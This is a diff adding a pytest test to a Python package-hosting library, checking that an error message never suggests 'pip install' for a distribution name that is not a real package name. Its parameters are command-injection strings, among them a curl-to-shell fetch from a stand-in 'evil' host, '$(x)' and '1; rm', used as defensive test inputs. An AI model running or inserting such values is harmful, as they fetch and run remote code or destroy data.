@@ -291,3 +291,12 @@ def test_the_host_of_a_process_is_one_and_knows_the_built_ins() -> None:
     probe = "from hubkit.methods.host import host; host().offers(); import sys; print('torch' in sys.modules)"
     done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, check=True)
     assert done.stdout == "False\n"
+
+
+@pytest.mark.parametrize("distribution", ["x; curl https://evil | sh #", "-r evil.txt", "x\nrm", "$(x)", ""])
+def test_a_strangers_words_are_no_command(distribution: str) -> None:
+    """A manifest names the package that offers its method: what is not a package's name is not suggested."""
+    fix = refusal("HK-METHOD-UNKNOWN", MethodHost(list).load, "any", distribution=distribution, version="1; rm").fix
+    assert "pip install" not in fix
+    good = refusal("HK-METHOD-UNKNOWN", MethodHost(list).load, "any", distribution="hubkit-ia3", version="1; rm").fix
+    assert good == "pip install hubkit-ia3"
